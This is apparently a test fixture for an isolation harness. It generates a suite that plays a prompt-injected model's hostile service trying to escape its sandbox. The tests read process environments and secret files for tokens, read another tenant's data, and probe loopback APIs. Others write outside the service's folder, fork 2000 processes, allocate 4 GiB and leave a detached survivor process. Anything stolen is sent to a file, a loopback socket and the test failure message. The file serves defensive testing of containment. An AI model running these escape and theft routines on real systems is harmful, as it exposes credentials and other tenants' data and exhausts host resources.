/**
 * A test file of a generated service written by an attacker (a prompt-injected model, or a vision that got code
 * past the templates): each `attack:` test tries one escape and, if it gets anywhere, exfiltrates what it got
 * through every channel it has (a failing test, whose message lands in the test results, a listener on the host's
 * loopback, a file on the host). A blocked attack passes, so its name in the results proves it ran.
 */
export interface AttackTargets {
  factoryHome: string;
  otherTenantFile: string;
  listenerPort: number;
  durableApiPort: number;
  factoryApiPort: number;
  exfilFile: string;
  survivorMarker: string;
}

export const attackNames = [
  'read the environment of every process',
  "read the factory's files and stores",
  "read another tenant's artifact",
  "reach a listener on the host's loopback",
  "reach the factory's durable client API",
  "reach the factory's HTTP API",
  'write outside its folder',
  'fork without end',
  'allocate 4 GiB',
  'leave a setsid grandchild behind',
];

export function attackSource(targets: AttackTargets): string {
  const t = JSON.stringify(targets);
  return `import { test } from 'node:test';
import { spawn, spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';

const targets = ${t} as {
  factoryHome: string; otherTenantFile: string; listenerPort: number; durableApiPort: number; factoryApiPort: number;
  exfilFile: string; survivorMarker: string;
};

/** Sends what was stolen everywhere it might get out, then fails the test with it. */
async function exfiltrate(what: string): Promise<never> {
  try { writeFileSync(targets.exfilFile, what); } catch { /* blocked */ }
  await new Promise<void>((done) => {
    const socket = connect(targets.listenerPort, '127.0.0.1', () => socket.end(what, () => done()));
    socket.on('error', () => done());
  });
  throw new Error('STOLEN ' + what);
}

const reachable = (port: number) =>
  new Promise<boolean>((done) => {
    const socket = connect(port, '127.0.0.1', () => { socket.destroy(); done(true); });
    socket.on('error', () => done(false));
  });

const tryRead = (path: string): string | undefined => {
  try { return readFileSync(path, 'utf8'); } catch { return undefined; }
};

test(${JSON.stringify(`attack: ${attackNames[0]}`)}, async () => {
  let stolen = '';
  let pids: string[] = [];
  try { pids = readdirSync('/proc').filter((p) => /^\\d+$/.test(p)); } catch { /* blocked */ }
  for (const pid of pids) {
    const environ = tryRead('/proc/' + pid + '/environ');
    if (environ && /FACTORY_|AZURE_|CANARY/.test(environ)) stolen += environ;
  }
  if (stolen) await exfiltrate(stolen);
});

test(${JSON.stringify(`attack: ${attackNames[1]}`)}, async () => {
  let stolen = '';
  for (const name of ['api-token', 'canary-secret', 'state.db', 'durable.db', 'bus.db']) {
    const content = tryRead(targets.factoryHome + '/' + name);
    if (content) stolen += content;
  }
  if (stolen) await exfiltrate(stolen);
});

test(${JSON.stringify(`attack: ${attackNames[2]}`)}, async () => {
  const content = tryRead(targets.otherTenantFile);
  if (content) await exfiltrate(content);
});

test(${JSON.stringify(`attack: ${attackNames[3]}`)}, async () => {
  if (await reachable(targets.listenerPort)) await exfiltrate('listener reached');
});

test(${JSON.stringify(`attack: ${attackNames[4]}`)}, async () => {
  if (await reachable(targets.durableApiPort)) await exfiltrate('durable client API reached');
});

test(${JSON.stringify(`attack: ${attackNames[5]}`)}, async () => {
  if (await reachable(targets.factoryApiPort)) await exfiltrate('factory HTTP API reached');
});

test(${JSON.stringify(`attack: ${attackNames[6]}`)}, () => {
  // Whether a write reached the host only the host can tell: the suite looks for these files there.
  for (const path of [targets.exfilFile + '.written', targets.factoryHome + '/planted']) {
    try { writeFileSync(path, 'planted'); } catch { /* blocked */ }
  }
});

test(${JSON.stringify(`attack: ${attackNames[7]}`)}, async () => {
  const children: Array<ReturnType<typeof spawn>> = [];
  try {
    for (let i = 0; i < 2000; i++) {
      const child = spawn('/bin/sleep', ['30']);
      const failed = await new Promise<boolean>((done) => {
        child.once('spawn', () => done(false));
        child.once('error', () => done(true));
      });
      if (failed) break;
      children.push(child);
    }
  } catch { /* blocked */ }
  for (const child of children) child.kill('SIGKILL');
  if (children.length >= 2000) await exfiltrate('forked ' + children.length);
});

test(${JSON.stringify(`attack: ${attackNames[8]}`)}, async () => {
  let out = '';
  try {
    const result = spawnSync(process.execPath, ['-e',
      'const k = []; for (let i = 0; i < 16; i++) k.push(Buffer.alloc(256 * 1024 * 1024, 1)); console.log("ALLOCATED")'],
      { encoding: 'utf8', timeout: 60000 });
    out = result.stdout ?? '';
  } catch { /* blocked */ }
  if (out.includes('ALLOCATED')) await exfiltrate('allocated 4 GiB');
});

test(${JSON.stringify(`attack: ${attackNames[9]}`)}, () => {
  try {
    spawn('/bin/sh', ['-c', 'sleep 120; echo ' + targets.survivorMarker], { detached: true, stdio: 'ignore' }).unref();
  } catch { /* blocked */ }
});
`;
}
